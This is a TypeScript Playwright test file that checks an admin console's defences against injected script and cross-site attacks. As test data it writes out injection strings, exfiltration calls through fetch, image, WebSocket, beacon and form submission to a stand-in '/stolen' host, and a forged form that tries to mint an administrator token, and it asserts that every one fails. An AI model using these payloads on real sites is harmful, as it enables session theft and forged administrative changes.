/**
 * What the console's page lets nobody do, not even script that got into it, and what a page of another site can do to it: nothing.
 *
 * The other site is on another port of this machine, which a browser takes for the same site: the cookie goes with its requests, so
 * everything else has to hold.
 */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { after, before, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { unlessPeers } from '../contract/places/peers.ts';
import { launchBrowser } from './browser.ts';
import { type ConsolePlace, logInByPage, startConsolePlace } from './place.ts';

const skip = unlessPeers('chromium');
let browser: Browser;
let place: ConsolePlace;
let elsewhere: Server;
let other: string;
/** What the other site was asked for. */
const heard: string[] = [];

before(async () => {
  if (skip !== false) return;
  browser = await launchBrowser();
  place = await startConsolePlace();
  elsewhere = createServer((request, response) => {
    heard.push(String(request.url));
    response
      .writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' })
      .end('<!doctype html><title>elsewhere</title>');
  });
  await new Promise<void>((resolve) => elsewhere.listen({ host: '127.0.0.1', port: 0 }, resolve));
  const address = elsewhere.address();
  other = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`;
});
after(async () => {
  await browser?.close();
  await place?.close();
  elsewhere?.close();
});

/** Each is put into the page as a text that throws or comes to a value; `refused` is what it has to come to. */
const attempts: readonly (readonly [what: string, script: string])[] = [
  ['markup out of text', `document.body.innerHTML += '<img src=x onerror="globalThis.ran = 1">'`],
  ['markup put beside something', `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`],
  ['a document out of text', `document.createElement('iframe').srcdoc = '<script>parent.ran = 1</script>'`],
  ['a script out of text', `const made = document.createElement('script'); made.text = 'globalThis.ran = 1'; document.head.append(made)`],
  ['a script of elsewhere', `const far = document.createElement('script'); far.src = '${'{other}'}/x.js'; document.head.append(far)`],
  ['eval', `globalThis.eval('globalThis.ran = 1')`],
  ['a function out of text', `new Function('globalThis.ran = 1')()`],
  ['a timer out of text', `setTimeout('globalThis.ran = 1', 0)`],
  ['a second policy', `trustedTypes.createPolicy('another', { createHTML: (text) => text }).createHTML('x')`],
];

test('script that got into the page makes no markup, runs no text and asks no other host', { skip }, async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await logInByPage(page, place.url, 'admin');
  const before = heard.length;
  for (const [what, script] of attempts) {
    const text = script.replaceAll('{other}', other);
    // In a turn of its own: what the debugger runs itself may do more than script of the page.
    const outcome: unknown = await page.evaluate(
      `new Promise((tell) => setTimeout(() => { try { ${text}; tell('done'); } catch (error) { tell(error.name); } }, 0))`,
    );
    assert.ok(outcome === 'TypeError' || outcome === 'EvalError', `${what}: ${String(outcome)}`);
  }
  const sent: unknown = await page.evaluate(`Promise.allSettled([
    fetch('${other}/stolen'), fetch('${other}/stolen', { mode: 'no-cors' }),
    new Promise((resolve, reject) => { const image = new Image(); image.onload = resolve; image.onerror = reject; image.src = '${other}/stolen.png'; }),
    new Promise((resolve, reject) => { const socket = new WebSocket('${other}'.replace('http', 'ws')); socket.onopen = resolve; socket.onerror = reject; }),
    navigator.sendBeacon('${other}/beacon') ? Promise.resolve() : Promise.reject(new Error('refused')),
  ]).then((all) => all.map((one) => one.status))`);
  assert.ok(Array.isArray(sent));
  assert.deepEqual(sent.slice(0, 4), ['rejected', 'rejected', 'rejected', 'rejected']);
  await page.evaluate(
    `(() => { const style = document.createElement('style'); style.textContent = '* { background: url(${other}/style.png) }'; document.head.append(style); })()`,
  );
  await page.evaluate(
    `(() => { const form = document.createElement('form'); form.action = '${other}/form'; document.body.append(form); form.submit(); })()`,
  );
  // What was going to be asked for has been, once this is answered.
  await page.evaluate(`fetch('/livez').then((answer) => answer.text())`);
  assert.equal(await page.evaluate('globalThis.ran'), undefined);
  assert.deepEqual(heard.slice(before), []);
  assert.equal(new URL(page.url()).origin, new URL(place.url).origin);
  await context.close();
});

test('a page of another site in the same browser reads nothing, changes nothing and frames nothing', { skip }, async () => {
  const context = await browser.newContext();
  const own = await context.newPage();
  await logInByPage(own, place.url, 'admin');
  const api = `${new URL(place.url).origin}/api/v1`;
  const before = await place.admin('GET', '/users');

  const page = await context.newPage();
  await page.goto(other);
  const read: unknown = await page.evaluate(`Promise.allSettled([
    fetch('${api}/users', { credentials: 'include' }),
    fetch('${api}/users', { credentials: 'include', mode: 'no-cors' }).then((answer) => answer.text()),
    fetch('${api}/users', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{"name":"evil","role":"administrator","password":"a good long sentence"}' }),
    new Promise((resolve, reject) => { const source = new EventSource('${api}/events', { withCredentials: true }); source.onmessage = resolve; source.onerror = reject; }),
    new Promise((resolve, reject) => { const script = document.createElement('script'); script.src = '${api}/users'; script.onload = resolve; script.onerror = reject; document.head.append(script); }),
  ]).then((all) => all.map((one) => one.status === 'fulfilled' ? String(one.value) : 'rejected'))`);
  assert.ok(Array.isArray(read));
  assert.deepEqual([read[0], read[3], read[4]], ['rejected', 'rejected', 'rejected']);
  assert.ok(!JSON.stringify(read).includes('administrator'));

  await page.setContent(
    `<iframe id="console" src="${place.url}"></iframe><form id="forged" method="post" enctype="text/plain" action="${api}/tokens" target="console"><input name='{"name":"x","role":"administrator","expiresInDays":null,"a":"' value='"}'></form>`,
  );
  await page.evaluate(`document.getElementById('forged').submit()`);
  for (const frame of page.frames().slice(1)) await frame.waitForLoadState('load');
  for (const frame of page.frames().slice(1)) assert.doesNotMatch(await frame.content(), /id="root"|class="mantine|administrator/);

  assert.deepEqual((await place.admin('GET', '/users')).body, before.body);
  assert.deepEqual((await place.admin('GET', '/tokens')).body, { tokens: [] });
  await own.reload();
  await own.getByRole('heading', { level: 1 }).first().waitFor();
  await context.close();
});
